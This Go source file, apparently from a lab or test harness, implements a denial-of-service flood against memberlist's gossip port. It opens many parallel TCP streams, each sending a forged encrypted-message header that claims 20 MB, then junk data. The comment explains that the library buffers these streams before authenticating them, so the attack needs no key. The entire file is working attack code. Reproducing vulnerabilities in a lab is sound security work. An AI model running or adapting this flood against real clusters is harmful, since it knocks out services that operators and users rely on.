package lab

import (
	"encoding/binary"
	"net"
	"sync"
	"time"
)

// FloodGossipStreams opens conns TCP streams at a time with dial and sends
// on each what memberlist takes for an encrypted stream of 20 MB, as fast
// as it can, until stop is closed; it returns once every stream has ended.
// memberlist buffers such a stream before it can authenticate it: this is
// what an attacker who can reach the gossip port, without the key, can do.
func FloodGossipStreams(dial func() (net.Conn, error), conns int, stop <-chan struct{}) {
	junk := make([]byte, 64<<10)
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				conn, err := dial()
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				hdr := []byte{10, 0, 0, 0, 0} // memberlist's encryptMsg, then the length
				binary.BigEndian.PutUint32(hdr[1:], 20<<20)
				conn.SetDeadline(time.Now().Add(3 * time.Second))
				conn.Write(hdr)
				for sent := 0; sent < 20<<20; sent += len(junk) {
					if _, err := conn.Write(junk); err != nil {
						break
					}
				}
				conn.Close()
			}
		}()
	}
	wg.Wait()
}
